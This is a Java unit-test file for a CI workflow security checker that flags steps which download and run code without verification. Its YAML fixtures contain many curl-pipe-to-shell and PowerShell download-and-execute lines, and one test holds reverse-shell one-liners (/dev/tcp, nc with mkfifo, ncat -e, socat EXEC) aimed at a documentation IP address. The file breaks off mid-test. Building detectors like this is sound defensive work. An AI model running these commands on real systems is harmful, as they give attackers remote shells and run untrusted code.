package io.github.mavenhardening.core.checks.workflow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class UnverifiedDownloadExecTest {

    private static final UnverifiedDownloadExec CHECK = new UnverifiedDownloadExec();

    @Test
    void findsPipesIntoShells() {
        MarkedYaml.steps("""
                - run: curl -s "https://get.example.org" | bash                    # finds: unverified-download-exec medium
                - run: curl -sSf https://sh.example.org | sh -s -- -y              # finds: unverified-download-exec medium
                - run: wget -qO- https://example.org/i.sh | sudo -E bash -         # finds: unverified-download-exec medium
                - run: bash <(curl -s https://example.org/codecov)                 # finds: unverified-download-exec medium
                - run: bash <(curl -Ls https://example.org/get.sh) report          # finds: unverified-download-exec medium
                - run: source <(wget -qO- https://example.org/env) a b             # finds: unverified-download-exec medium
                - run: sh -c "$(curl -fsSL https://example.org/install.sh)"        # finds: unverified-download-exec medium
                - run: eval "$(curl -fsSL https://example.org/env)"                # finds: unverified-download-exec medium
                - run: curl https://example.org/get.py | python3 -                 # finds: unverified-download-exec medium
                - run: |
                    set -e
                    curl -L https://example.org/x |
                      tee log |
                      bash                                                         # finds: unverified-download-exec medium
                - run: iwr https://example.org/i.ps1 | iex                         # finds: unverified-download-exec medium
                  shell: pwsh
                """).isFoundBy(CHECK);
    }

    @Test
    void knowsMoreLoaders() {
        MarkedYaml.steps("""
                - run: http https://example.org/i.sh | sh                          # finds: unverified-download-exec medium
                - run: http GET https://example.org/version
                - run: deno install -A https://example.org/i.ts                    # finds: unverified-download-exec low medium-confidence
                - run: deno install
                """).isFoundBy(CHECK);
    }

    @Test
    void findsShellsAtConnections() {
        MarkedYaml.steps("""
                - run: nc 192.0.2.1 99 | sh                                        # finds: unverified-download-exec medium
                - run: mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 99 > /tmp/f   # finds: unverified-download-exec medium
                - run: bash -i >& /dev/tcp/192.0.2.1/99 0>&1                       # finds: unverified-download-exec medium
                - run: sh -c 'bash -i &> /dev/tcp/192.0.2.1/99 <&1'                # finds: unverified-download-exec medium
                - run: ncat -e /bin/bash 192.0.2.1 99                              # finds: unverified-download-exec medium
                - run: socat TCP:192.0.2.1:99 EXEC:/bin/sh                         # finds: unverified-download-exec medium
                - run: while ! nc -z localhost 5432; do sleep 1; done
                - run: timeout 5 bash -c '</dev/tcp/localhost/5432'
                - run: echo > /dev/tcp/localhost/5432
                - run: echo stats | nc localhost 11211 | grep pid
                - run: bash -x build.sh &> build.log
                - run: echo 'date' | sh | nc -N logs.example.org 99
                - run: socat TCP-LISTEN:80,fork TCP:localhost:8080
                """).isFoundBy(CHECK);
    }

    /** They may be the project's own. */
    @Test
    void isUnsureAboutBuckets() {
        MarkedYaml.steps("""
                - run: |
                    aws s3 cp s3://bucket/a/install.sh .
                    bash install.sh                          # finds: unverified-download-exec medium low-confidence
                - run: aws --region eu s3 cp s3://bucket/b.sh - | bash  # finds: unverified-download-exec medium low-confidence
                - run: |
                    aws s3api get-object --bucket bucket --key k /tmp/c.sh
                    sh /tmp/c.sh                             # finds: unverified-download-exec medium medium-confidence
                - run: |
                    gsutil -m cp gs://bucket/d bin/
                    ./bin/d                                  # finds: unverified-download-exec medium low-confidence
                - run: gcloud storage cat gs://bucket/e | sh  # finds: unverified-download-exec medium low-confidence
                - run: |
                    aws s3 cp s3://bucket/f.sh .
                    sha256sum -c f.sh.sha256
                    sh f.sh
                - run: |
                    aws s3 cp g.sh s3://bucket/g.sh --acl private
                    sh g.sh
                - run: |
                    gsutil cp gs://bucket/h.sh gs://other/h.sh
                    sh h.sh
                """).isFoundBy(CHECK);
    }

    @Test
    void findsWhatPowerShellEvaluates() {
        MarkedYaml.steps("""
                - run: iex (iwr https://example.org/i.ps1).Content                 # finds: unverified-download-exec medium
                  shell: pwsh
                - run: Invoke-Expression (Invoke-RestMethod -Uri https://example.org/i.ps1)   # finds: unverified-download-exec medium
                  shell: powershell
                - run: iex "& { $(irm https://example.org/i.ps1) } -Quiet"         # finds: unverified-download-exec medium
                  shell: pwsh
                - run: iex ((New-Object Net.WebClient).DownloadString('https://example.org/i.ps1'))   # finds: unverified-download-exec medium
                  shell: pwsh
                - run: |
                    iex (Get-Content build.ps1 -Raw)
                    iwr https://example.org/data.json
                  shell: pwsh
                - run: iex (iwr https://example.org/8e8c483db84b4bee98b60c0593521ed34d9990e8/i.ps1).Content
                  shell: pwsh
                - run: iex (iwr http://localhost:8080/i.ps1).Content
                  shell: pwsh
                - run: Write-Output (iwr https://example.org/version).Content
                  shell: pwsh
                """).isFoundBy(CHECK);
    }

    @Test
    void followsWhatIsUnpackedAndMoved() {
        MarkedYaml.steps("""
                - run: |
                    cd "$ANDROID_SDK_ROOT/cmdline-tools"
                    wget https://example.org/commandlinetools-linux-9477386_latest.zip -O tools.zip
                    unzip tools.zip -d temp
                    rm tools.zip
                    mv temp/cmdline-tools "$ANDROID_SDK_ROOT/cmdline-tools/latest"
                    echo y | $ANDROID_SDK_ROOT/cmdline-tools/latest/bin/sdkmanager --list      # finds: unverified-download-exec medium medium-confidence
                    $ANDROID_SDK_ROOT/cmdline-tools/other/bin/sdkmanager --list
                - run: |
                    curl -sSL https://example.org/jq.tar.gz | tar xz -C ~/jq-1.7/
                    ~/jq-1.7/bin/x                                                             # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sSLo x-linux https://example.org/x-linux
                    sudo install -m 755 x-linux /usr/local/bin/x
                    x --version                                                                # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sSL https://example.org/jq.tar.gz | tar xz -C /usr/local/bin         # finds: unverified-download-exec medium medium-confidence
                    /usr/local/bin/other
                - run: |
                    curl -sSL https://example.org/crane.tar.gz > crane.tar.gz
                    tar -zxvf crane.tar.gz -C /usr/local/bin/ crane                            # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sSL https://example.org/crane.tar.gz > crane.tar.gz
                    sha256sum -c crane.sha256
                    tar -zxvf crane.tar.gz -C /usr/local/bin/ crane
                - run: curl -sSfL https://example.org/typos.tar.gz | tar -xz -C $(go env GOPATH)/bin ./typos  # finds: unverified-download-exec medium medium-confidence
                - run: |
                    wget https://example.org/protoc-3-linux-x86_64.zip
                    unzip protoc-3-linux-x86_64.zip -d protoc
                    sudo cp -r protoc/include/google/ /usr/local/include/
                    sudo cp protoc/bin/protoc /usr/local/bin/                                  # finds: unverified-download-exec medium medium-confidence
                - run: |
                    mkdir installed-bins
                    curl -Lf https://example.org/checks-x86_64.tar.gz | tar -xz --directory=./installed-bins
                    echo `pwd`/installed-bins >> $GITHUB_PATH                                  # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sSLo /tmp/buildx https://example.org/buildx-linux-amd64
                    chmod a+x /tmp/buildx                                                      # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sSLo data.json https://example.org/data.json
                    chmod 644 data.json
                - run: |
                    curl -sSLo /tmp/kubectl https://example.org/kubectl
                    chmod 0755 /tmp/kubectl
                    mv /tmp/kubectl /usr/local/bin/kubectl                                     # finds: unverified-download-exec medium medium-confidence
                - run: |
                    wget https://example.org/jq.zip -O a.zip
                    sha256sum -c a.sha256
                    unzip a.zip -d temp
                    temp/jq
                """).isFoundBy(CHECK);
    }

    @Test
    void looksIntoScriptsOfActions() {
        MarkedYaml.steps("""
                - uses: nick-fields/retry@v3
                  with:
                    max_attempts: 3
                    command: |
                      curl -sSf https://example.org/i.sh | sh                      # finds: unverified-download-exec medium
                - uses: vmactions/freebsd-vm@v1
                  with:
                    prepare: fetch -o - https://example.org/i.sh | sh              # finds: unverified-download-exec medium
                    run: make test
                - uses: appleboy/ssh-action@v1
                  with:
                    script: wget -qO- https://example.org/i.sh | bash              # finds: unverified-download-exec medium
                - uses: azure/powershell@v2
                  with:
                    inlineScript: iwr https://example.org/i.ps1 | iex              # finds: unverified-download-exec medium
                - uses: nick-fields/retry@v3
                  with:
                    shell: python
                    command: curl -sSf https://example.org/i.sh | sh
                - uses: nick-fields/retry@v3
                  with:
                    command: curl -sSf https://example.org/8e8c483db84b4bee98b60c0593521ed34d9990e8/i.sh | sh
                - uses: example/notify@v1
                  with:
                    command: curl -sSf https://example.org/i.sh | sh
                - run: curl -sSf https://example.org/i.sh | sh                     # finds: unverified-download-exec medium
                  shell: msys2 {0}
                - run: curl -sSf https://example.org/i.sh | sh                     # finds: unverified-download-exec medium
                  shell: 'script -q -e -c "bash --noprofile -eo pipefail {0}"'
                - run: curl -sSf https://example.org/i.sh | sh                     # finds: unverified-download-exec medium
                  shell: nix develop -c bash -e {0}
                - run: curl -sSf https://example.org/i.sh | sh
                  shell: Rscript {0}
                - run: curl -sSf https://example.org/i.sh | sh                     # finds: unverified-download-exec medium
                  shell: C:\\cygwin\\bin\\bash.exe -eo pipefail '{0}'
                """).isFoundBy(CHECK);
    }

    @Test
    void findsFilesThatAreRun() {
        MarkedYaml.steps("""
                - run: |
                    curl -fsSLo install.sh https://example.org/install.sh
                    chmod +x install.sh
                    ./install.sh                          # finds: unverified-download-exec medium medium-confidence
                - run: |
                    wget https://example.org/tools/setup.sh?x=1
                    bash setup.sh                         # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/tool
                    echo "$SUM  tool" | sha256sum --check
                    ./tool
                - run: |
                    curl -o data.json https://example.org/data.json
                    python3 report.py data.json
                """).isFoundBy(CHECK);
    }

    @Test
    void leavesOthersAlone() {
        MarkedYaml.steps("""
                - run: curl -s https://raw.example.org/o/r/8e8c483db84b4bee98b60c0593521ed34d9990e8/install.sh | bash
                - run: curl -s http://localhost:8080/health | bash
                - run: curl -sS "file://$(pwd)/install.sh" | sh
                - run: curl -s https://example.org/x.json | python3 -c 'import json'
                - run: curl -s https://example.org/x | perl -ne 'print'
                - run: curl -s https://example.org/x.tgz | tar xz
                - run: curl -s https://example.org/x | python3 tools/read.py
                - run: VERSION=$(curl -s https://example.org/version) && bash build.sh
                - run: curl -fsS https://example.org/up || bash alarm.sh
                - run: echo 'curl https://example.org | bash'
                - run: |
                    # curl https://example.org | bash
                    cat <<EOF > readme
                    curl https://example.org | bash
                    EOF
                """).isFoundBy(CHECK);
    }

    @Test
    void isWorseWhereThereIsSomethingToSteal() {
        MarkedYaml.steps("""
                - run: curl -s https://example.org | bash   # finds: unverified-download-exec high
                  env:
                    TOKEN: ${{ secrets.TOKEN }}
                """).isFoundBy(CHECK);
        MarkedYaml.action("""
                runs:
                  using: composite
                  steps:
                    - run: curl -s https://example.org | bash   # finds: unverified-download-exec medium
                      shell: bash
                """).isFoundBy(CHECK);
    }

    @Test
    void followsFilesThroughRedirectionsStepsAndArchives() {
        MarkedYaml.steps("""
                - run: curl https://example.org/f > f && sh f            # finds: unverified-download-exec medium medium-confidence
                - run: wget -O - https://example.org/i.sh | sh          # finds: unverified-download-exec medium
                - run: curl -fsSLo setup.sh https://example.org/setup.sh
                - run: bash ./setup.sh                                  # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/tool-1.2-linux.tar.gz
                    tar xzf tool-1.2-linux.tar.gz
                    ./tool-1.2-linux/bin/run                            # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -sL https://example.org/lint_2.0.tgz | tar xz
                    sudo mv lint /usr/local/bin
                - run: lint --all                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    gh release download v1 -R my-org/scanner -p 'scanner_*_linux.tar.gz'
                    tar xf scanner_1.0_linux.tar.gz
                    ./scanner .                                         # finds: unverified-download-exec medium medium-confidence
                - run: docker run --rm alpine sh -c "apk add curl && curl https://example.org/i | sh" # finds: unverified-download-exec medium
                - run: bash -ec 'curl -s https://example.org/i | bash'   # finds: unverified-download-exec medium
                - run: npx https://example.org/tool.tgz --fix            # finds: unverified-download-exec medium
                - run: npx --yes github:my-org/tool                      # finds: unverified-download-exec medium
                - run: go run example.org/tool@latest ./...              # finds: unverified-download-exec medium
                - run: uvx --from git+https://example.org/tool lint      # finds: unverified-download-exec medium
                - run: pipx run --spec git+https://example.org/x x       # finds: unverified-download-exec medium
                - run: uv run --with git+https://example.org/x x         # finds: unverified-download-exec medium
                - run: npx --yes https://example.org/x.tgz --fix         # finds: unverified-download-exec medium
                - run: deno run -A https://example.org/main.ts           # finds: unverified-download-exec medium
                - run: |
                    curl -sL https://example.org/kit-2.tgz | sudo tar xz -C /opt
                    /opt/kit-2/bin/run                                  # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
    }

    /** Whatever the names in an archive are: what the repository does not have, and nothing else has made, comes of it. */
    @Test
    void findsProgramsOfAnArchiveThatIsUnpackedHere() {
        for (String run : new String[] {
            "./install.sh",
            "sudo ./install.sh",
            "chmod +x install.sh && ./install.sh",
            "cd bar-1.0 && ./configure",
            "cd bar-1.0\n    make install",
            "sh setup/install.sh",
            "python setup.py install",
            "./aws/install --update"
        }) {
            unpacked("curl -L https://example.org/archive/v1.tar.gz | tar xz", run, true);
            unpacked("curl -L https://example.org/archive/v1.tar.gz -o a.tgz\n    tar -xzf a.tgz", run, true);
            unpacked("wget https://example.org/v1.zip\n    unzip -q v1.zip", run, true);
            unpacked("wget https://example.org/v1.zip\n    unzip -o v1.zip", run, true);
        }
        for (String run : new String[] {
            "./own.sh",
            "sh own.sh",
            "cd own && make",
            "make install",
            "cd .. && make",
            "make\n    ./app",
            "./gradlew build",
            "./build/app",
            "./app",
            "$DIR/app",
            "./own/app"
        }) {
            unpacked("curl -L https://example.org/archive/v1.tar.gz | tar xz", run, false);
        }
        unpacked("curl -L https://example.org/test-data.tar.gz | tar xz", "./app", false);
        unpacked(
                "curl -L https://example.org/v1.tar.gz -o a.tgz\n    sha256sum -c a.sum\n    tar xf a.tgz",
                "./app",
                false);
        unpacked(
                "curl -L https://example.org/v1.tar.gz | tar xz\n    cosign verify-blob install.sh",
                "./install.sh",
                false);
    }

    private static void unpacked(String unpack, String run, boolean isFound) {
        String script = unpack + "\n    " + run;
        MarkedYaml.steps("- run: |\n    " + script
                        + (isFound ? "    # finds: unverified-download-exec medium medium-confidence" : ""))
                .and("own.sh", "echo")
                .and("own/app", "echo")
                .isFoundBy(CHECK);
    }

    @Test
    void leavesWhatIsVerified() {
        MarkedYaml.steps("""
                - run: curl https://example.org/f > f && sha256sum -c f.sha256 && sh f
                - run: curl -fsSLo setup.sh https://example.org/setup.sh
                - run: cosign verify-blob --bundle setup.sigstore.json setup.sh
                - run: bash ./setup.sh
                - run: |
                    curl -LO https://example.org/tool-1.2-linux.tar.gz
                    echo "$SUM  tool-1.2-linux.tar.gz" | sha256sum -c
                    tar xzf tool-1.2-linux.tar.gz
                    ./tool-1.2-linux/bin/run
                - run: |
                    gh release download v1 -R my-org/scanner -p 'scanner_*'
                    gh attestation verify scanner_1.0 -R my-org/scanner
                    ./scanner_1.0 .
                - run: |
                    curl -sL https://example.org/o/r/8e8c483db84b4bee98b60c0593521ed34d9990e8/lint.tgz | tar xz
                    ./lint
                - run: docker run --rm alpine sh -c "curl https://example.org/i -o i"
                - run: npx eslint .
                - run: npx github:my-org/tool#8e8c483db84b4bee98b60c0593521ed34d9990e8
                - run: go run example.org/tool@v1.2.3 ./...
                - run: go run ./cmd/tool
                - run: uvx ruff check
                - run: pipx run --spec git+https://example.org/x@8e8c483db84b4bee98b60c0593521ed34d9990e8 x
                - run: uv run tool --git-remote https://example.org/x.git list
                - run: npx --yes tool --repo https://example.org/x.git
                - run: deno run main.ts
                - run: |
                    curl -sL https://example.org/data-1.tgz | tar xz
                    ./gradlew build
                """).isFoundBy(CHECK);
    }

    /** Whoever can change a file of the repository can change the workflow as well. */
    @Test
    void trustsTheFilesOfItsOwnRepository() {
        for (String address : new String[] {
            "https://raw.githubusercontent.com/ada/app/main/install.sh", "https://github.com/Ada/App/raw/v1/install.sh"
        }) {
            MarkedYaml.steps("- run: curl -sSf " + address + " | sh")
                    .named("ada/app")
                    .isFoundBy(CHECK);
        }
        for (String address : new String[] {
            "https://raw.githubusercontent.com/ada/other/main/install.sh",
            "https://github.com/ada/app/releases/download/v1/install.sh"
        }) {
            assertThat(MarkedYaml.steps("- run: curl -sSf " + address + " | sh")
                            .named("ada/app")
                            .findings(CHECK))
                    .hasSize(1);
        }
    }

    /** A package that is installed runs its scripts as root. */
    @Test
    void looksAtWhatIsInstalled() {
        MarkedYaml.steps("""
                - run: |
                    curl -fsSL https://example.org/a_1.deb -o a_1.deb
                    sudo dpkg --install a_1.deb              # finds: unverified-download-exec medium medium-confidence
                - run: |
                    wget https://example.org/b.deb
                    sudo apt-get install -y ./b.deb          # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/c.pkg
                    shasum -a 256 -c c.sum
                    sudo installer -pkg c.pkg -target /
                - run: sudo apt-get install -y ./own.deb curl
                """).isFoundBy(new UnverifiedDownloadExec());
    }

    /** However many programs of a download run, it is one download. */
    @Test
    void tellsADownloadOnce() {
        MarkedYaml.steps("""
                - run: |
                    gh release download v1 --repo example/tools --pattern 'kit.zip'
                    unzip kit.zip
                - run: |
                    kit/build                                # finds: unverified-download-exec medium medium-confidence
                    tools install
                    kit/build
                """).isFoundBy(new UnverifiedDownloadExec());
    }

    @Test
    void followsWhatIsPutWhereProgramsAre() {
        MarkedYaml.steps("""
                - run: |
                    curl -sSL "$url" | tar -xz -C mdbook
                    printf '%s/mdbook\\n' "$PWD" >> "$GITHUB_PATH"
                - run: mdbook build docs                                          # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
        MarkedYaml.steps("""
                - run: |
                    wget https://example.org/linux64 -O coverity_tool.tgz
                    tar xzf coverity_tool.tgz -C coverity_tool
                - run: |
                    export PATH=`pwd`/coverity_tool/bin:$PATH                     # finds: unverified-download-exec medium medium-confidence
                    cov-build --dir cov-int mvn package
                """).isFoundBy(CHECK);
        MarkedYaml.steps("""
                - run: |
                    curl -L https://example.org/composer-`uname -s` > composer
                    sudo mv composer /usr/local/bin                               # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -o /usr/local/bin/tool https://example.org/tool          # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -L https://example.org/data.json > data.json
                    mv data.json /usr/local/share
                - run: |
                    curl -L https://example.org/safe > safe
                    sudo mv safe /usr/local/bin
                    echo "$SUM  /usr/local/bin/safe" | sha256sum -c
                """).isFoundBy(CHECK);
    }

    @Test
    void followsWhatFlowsIntoAFile() {
        MarkedYaml.steps("""
                - run: curl -fsSL https://example.org/taplo.gz | gzip -d - | install -m 755 /dev/stdin /usr/local/bin/taplo
                - run: taplo fmt                                                  # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -fsSL https://example.org/other.gz | gunzip > other
                    chmod +x other
                    ./other                                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -fsSL https://example.org/list.gz | gunzip > list
                    cat list
                """).isFoundBy(CHECK);
    }

    @Test
    void looksAtWhatIsStartedOrConvertedToBeInstalled() {
        MarkedYaml.steps("""
                - run: |
                    wget https://example.org/${{ inputs.arch }}/macros-${version}.rpm
                    sudo alien -d -i macros-${version}.rpm                        # finds: unverified-download-exec medium medium-confidence
                - run: |
                    Invoke-WebRequest "https://example.org/vs.exe" -OutFile /vs.exe
                    Start-Process C:/vs.exe -ArgumentList "--quiet" -Wait         # finds: unverified-download-exec medium medium-confidence
                    Invoke-WebRequest "https://example.org/a.msi" -OutFile a.msi
                    Start-Process msiexec.exe -ArgumentList "/i a.msi /quiet"     # finds: unverified-download-exec medium medium-confidence
                  shell: pwsh
                - run: |
                    curl -L "https://example.org/go$GO_VERSION.tar.gz" | gtar xzf -
                    ./go/bin/go version                                           # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
    }

    /** Scripts of the repository that steps lead to, once for all jobs. */
    @Test
    void followsScriptsOfTheRepository() {
        String makefile = """
                BIN := $(CURDIR)/.bin
                LINT := $(BIN)/lint
                lint: $(LINT)
                \t$(LINT) run ./...
                $(LINT):
                \tcurl -sSfL https://example.org/HEAD/install.sh \\
                \t\t| sh -s -- -b $(BIN)
                """;
        MarkedYaml.steps("""
                - run: make lint                                      # finds: unverified-download-exec medium
                - run: make lint
                - run: ./ci/tool.sh                                   # finds: unverified-download-exec medium medium-confidence
                - run: ./ci/verified.sh
                """)
                .and("Makefile", makefile)
                .and(
                        "ci/tool.sh",
                        "curl -sSfLo /usr/local/bin/tool https://example.org/tool\nchmod +x /usr/local/bin/tool\n")
                .and(
                        "ci/verified.sh",
                        "curl -sSfLo tool https://example.org/tool\nsha256sum -c tool.sha256\nsh ./tool\n")
                .isFoundBy(CHECK);
        assertThat(MarkedYaml.steps("- run: make lint")
                        .and("Makefile", makefile)
                        .findings(CHECK)
                        .get(0)
                        .message())
                .isEqualTo(
                        "What is downloaded from 'https://example.org/HEAD/install.sh' is run without verification, in"
                                + " 'Makefile', which this leads to, so whoever can change it runs code in the job");
    }

    /** The job with the most rights is the one that a finding of a script shows. */
    @Test
    void showsTheJobThatMayDoMost() {
        MarkedYaml.workflow("""
                on: push
                permissions: {}
                jobs:
                  test:
                    runs-on: ubuntu-24.04
                    steps:
                      - run: ./install.sh
                  deploy:
                    runs-on: ubuntu-24.04
                    permissions: {contents: write}
                    steps:
                      - run: ./install.sh        # finds: unverified-download-exec high
                """)
                .and("install.sh", "curl https://example.org/i | sh\n")
                .isFoundBy(CHECK);
    }

    @Test
    void namesTheCommandWhereNoAddressIsWritten() {
        assertThat(MarkedYaml.steps("- run: |\n    gh release download v1 -R o/r -p tool\n    bash ./tool\n")
                        .findings(CHECK)
                        .get(0)
                        .message())
                .startsWith("'bash' runs what was downloaded before, without verification, so whoever");
    }

    @Test
    void showsAnAddressWithWhatIsFilledIn() {
        assertThat(MarkedYaml.steps("- run: curl https://example.org/v${{ env.VERSION }}/install.sh | sh")
                        .findings(CHECK)
                        .get(0)
                        .message())
                .startsWith("What is downloaded from 'https://example.org/v${{ env.VERSION }}/install.sh' is run");
    }

    /** Programs that verify do other things as well: they take in keys, sign, or print a checksum. */
    @Test
    void asksWhatSuchAProgramDoes() {
        MarkedYaml.steps("""
                - run: |
                    curl -LO https://example.org/a
                    curl https://example.org/key.asc | gpg --import
                    sh a                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/b
                    gpg --batch --import key.asc
                    sh b                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/c
                    openssl dgst -sha256 c
                    sh c                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/d
                    openssl rand -hex 16 > seed
                    sh d                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/e
                    cosign sign-blob --yes e
                    sh e                                       # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
        MarkedYaml.steps("""
                - run: |
                    curl -LO https://example.org/a
                    gpg --batch --trust-model always --verify a.sig a
                    sh a
                - run: |
                    curl -LO https://example.org/b
                    gpg b.asc
                    sh b
                - run: |
                    curl -LO https://example.org/c
                    [ "$(openssl dgst -sha256 -r c | cut -d' ' -f1)" = "$SUM" ]
                    sh c
                - run: |
                    curl -LO https://example.org/d
                    openssl dgst -sha256 -verify key.pem -signature d.sig d
                    sh d
                - run: |
                    curl -LO https://example.org/e
                    minisign -Vm e -P "$KEY"
                    sh e
                - run: |
                    curl -LO https://example.org/f.rpm
                    rpm -K f.rpm
                    dnf install -y ./f.rpm
                """).isFoundBy(CHECK);
    }

    /** A checksum that is printed, or whose comparison cannot fail the script, stops nothing. */
    @Test
    void asksWhetherAVerificationStopsTheScript() {
        MarkedYaml.steps("""
                - run: |
                    curl -LO https://example.org/a
                    sha256sum a
                    sh a                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/s
                    sha256sum s >> "$GITHUB_STEP_SUMMARY"
                    sh s                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/b
                    sha256sum b | tee -a log
                    sh b                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/c
                    (cd . && grep c sums | sha256sum -c -) || echo "::warning::differs"
                    sh c                                       # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -LO https://example.org/d
                    gpg --verify d.asc d && echo fine || true
                    sh d                                       # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
        MarkedYaml.steps("""
                - run: |
                    curl -LO https://example.org/a
                    [ "$(sha256sum a | cut -d' ' -f1)" = "$SUM" ]
                    sh a
                - run: |
                    curl -LO https://example.org/b
                    sha256sum b | grep -q "$SUM"
                    sh b
                - run: |
                    curl -LO https://example.org/c
                    sha256sum -c c.sum || { echo "differs"; exit 1; }
                    sh c
                - run: |
                    curl -LO https://example.org/d
                    sha256sum -c d.sum && sh d || true
                - run: |
                    curl -LO https://example.org/e
                    diff <(sha256sum e) e.sum
                    sh e
                """).isFoundBy(CHECK);
    }

    @Test
    void findsTextsOfVariables() {
        MarkedYaml.steps("""
                - run: |
                    a="$(curl -fsS https://example.org/a.sh)"
                    source /dev/stdin <<< "$a"                 # finds: unverified-download-exec medium
                - run: |
                    b=$(wget -qO- https://example.org/b.sh)
                    eval "$b"                                  # finds: unverified-download-exec medium
                - run: |
                    c=$(curl https://example.org/c.sh)
                    bash -c "${c}"                             # finds: unverified-download-exec medium
                - run: |
                    d=$(curl https://example.org/d.sh)
                    echo "$d" | bash                           # finds: unverified-download-exec medium
                - run: |
                    e=$(curl https://example.org/version)
                    bash build.sh "$e"
                    echo "$e" | bash build.sh
                """).isFoundBy(CHECK);
    }

    @Test
    void findsWhatIsStartedForEachFile() {
        MarkedYaml.steps("""
                - run: curl -L https://example.org/lint-linux.tar.gz | tar xz -C "$bin"
                - run: find . -print0 | xargs -0 -n 1 lint -strict     # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -L https://example.org/format-linux.tar.gz | tar xz -C "$bin"
                    find . -name '*.sh' -exec $bin/format {} +        # finds: unverified-download-exec medium medium-confidence
                - run: |
                    curl -L https://example.org/other-linux.tar.gz | tar xz -C "$bin"
                    find . -name other | xargs rm
                - run: |
                    gh release download --repo o/r --pattern 'fast_*_amd64.deb' --dir "$d"
                    sudo apt-get install -y "$d"/*.deb                # finds: unverified-download-exec medium medium-confidence
                """).isFoundBy(CHECK);
    }

    @Test
    void countsNoVerificationOfAStepThatMayFail() {
        MarkedYaml.steps("""
                - run: curl -LO https://example.org/a
                - run: sha256sum -c a.sum
                  continue-on-error: true
                - run: sh a                                    # finds: unverified-download-exec medium medium-confidence
                - run: curl -LO https://example.org/b
                - run: sha256sum -c b.sum
                  continue-on-error: false
                - run: sh b
                - run: |
                    curl -LO https://example.org/c
                    sha256sum -c c.sum
                    sh c
                  continue-on-error: true
                """).isFoundBy(CHECK);
    }

    /** What is installed from an address is built or run from there; a registry, a commit and a checksum are something else. */
    @Test
    void findsWhatIsInstalledFromAnAddress() {
        MarkedYaml.steps("""
                - run: pip install https://example.org/a-1.0.whl                      # finds: unverified-download-exec low medium-confidence
                - run: python -m pip install "a @ git+https://github.com/org/a@main"  # finds: unverified-download-exec low medium-confidence
                - run: cargo install --git https://github.com/org/a --tag v1          # finds: unverified-download-exec low medium-confidence
                - run: go install example.org/a/cmd/a@latest                          # finds: unverified-download-exec low medium-confidence
                - run: uv tool install git+https://github.com/org/a                   # finds: unverified-download-exec low medium-confidence
                - run: npm install -g github:org/a                                    # finds: unverified-download-exec low medium-confidence
                - run: pip install a==1.0 --index-url https://repo.example.org/simple
                - run: pip install --extra-index-url https://repo.example.org/simple --find-links https://repo.example.org/b a
                - run: pip install git+https://github.com/org/a@0123456789abcdef0123456789abcdef01234567
                - run: cargo install --git https://github.com/org/a --rev 0123456789abcdef0123456789abcdef01234567
                - run: pip install "git+https://github.com/org/a@${{ github.sha }}"
                - run: cargo install a --locked
                - run: go install example.org/a@v1.2.3
                - run: npm install --registry https://repo.example.org a
                """).isFoundBy(CHECK);
    }

    @Test
    void knowsFurtherDownloaders() {
        MarkedYaml.steps("""
                - run: |
                    aria2c -x 4 https://example.org/setup.run
                    sh setup.run                                   # finds: unverified-download-exec medium medium-confidence
                - run: |
                    aria2c --checksum=sha-256=$SUM -o b.run https://example.org/b.run
                    sh b.run
                - run: python3 -c "import urllib.request as u; exec(u.urlopen('https://example.org/i.py').read())"   # finds: unverified-download-exec medium
                - run: ruby -e "$(curl -fsSL https://example.org/install)"          # finds: unverified-download-exec medium
                - run: ruby -e "puts 1"; curl -fsSL https://example.org/install
                - run: python3 -c "import urllib.request as u; print(u.urlopen('https://example.org/i.json').read())"
                """).isFoundBy(CHECK);
    }

    @Test
    void knowsWhatPowerShellInstallsAndPutsOnThePath() {
        MarkedYaml.steps("""
                - run: |
                    Invoke-WebRequest https://example.org/app.msixbundle -OutFile app.msixbundle
                    Add-AppxPackage app.msixbundle                                   # finds: unverified-download-exec medium medium-confidence
                  shell: pwsh
                - run: |
                    iwr https://example.org/tool.zip -OutFile tool.zip
                    Expand-Archive tool.zip -DestinationPath bin
                    Add-Content $env:GITHUB_PATH "$pwd/tool"                         # finds: unverified-download-exec medium medium-confidence
                  shell: pwsh
                - run: |
                    iwr https://example.org/other.zip -OutFile other.zip
                    Expand-Archive other.zip -DestinationPath bin
                    echo "$pwd/other" | Out-File $env:GITHUB_PATH -Append            # finds: unverified-download-exec medium medium-confidence
                  shell: pwsh
                - run: |
                    iwr https://example.org/data.zip -OutFile data.zip
                    Expand-Archive data.zip
                    Add-Content $env:GITHUB_ENV "DATA=$pwd/data"
                  shell: pwsh
                """).isFoundBy(CHECK);
    }

    @Test
    void findsPackagesOfSystemsByTheirAddress() {
        MarkedYaml.steps("""
